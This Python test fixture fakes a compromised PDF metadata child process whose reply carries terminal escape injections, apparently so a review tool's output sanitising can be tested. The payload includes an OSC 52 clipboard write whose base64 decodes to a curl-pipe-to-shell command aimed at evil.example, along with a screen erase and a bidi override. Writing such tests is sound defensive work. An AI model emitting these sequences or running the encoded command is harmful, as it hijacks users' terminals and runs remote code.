"""A metadata child that a crafted file took over: it answers with what its new owner chose.

Started by `review.casework.pdfview.run_child` in place of `review.present.metachild`, as
the test of what the tool does with a child's answer asks: a real process, a real frame.
"""

from __future__ import annotations

import sys

from review.casework import pdfchild

# OSC 52 (the terminal's clipboard), a screen erase, a C1 CSI and a bidi override.
SAID = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07GPS position\x1b[2J: 31.5, 74.3\n"
    "\x9b8mcamera make: \u202eevil"
)


def main() -> int:
    """Read the file as the real child does, then answer with one frame of `SAID`."""
    sys.stdin.buffer.read()
    pdfchild.send(sys.stdout.buffer, pdfchild.META, 0, SAID.encode())
    return 0


if __name__ == "__main__":
    sys.exit(main())
